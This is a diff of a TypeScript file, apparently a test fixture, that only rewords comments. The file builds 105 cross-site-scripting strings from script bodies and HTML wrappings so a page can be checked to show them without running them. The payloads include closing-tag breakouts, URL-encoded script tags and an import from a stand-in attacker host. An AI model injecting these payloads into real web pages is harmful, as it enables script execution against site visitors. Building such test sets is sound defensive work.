@@ -1,4 +1,4 @@
-/** Ways to have a script run, by what they need around them. */
+/** Ways to run a script. */
 const SCRIPTS = [
   'alert(1)',
   'window.isAttacked=true',
@@ -7,7 +7,7 @@ const SCRIPTS = [
   'import(`//evil.example`)',
 ];
 
-/** What people write around them. */
+/** Texts around them. */
 const WRAPPINGS: ((script: string) => string)[] = [
   (script) => `<script>${script}</script>`,
   (script) => `</script><script>${script}</script>`,
@@ -32,5 +32,5 @@ const WRAPPINGS: ((script: string) => string)[] = [
   (script) => `%3Cscript%3E${script}%3C/script%3E`,
 ];
 
-/** A hundred and five texts that are only ever to be shown. */
+/** 105 texts that a page may only show. */
 export const HOSTILE_TEXTS = WRAPPINGS.flatMap((wrap) => SCRIPTS.map(wrap));
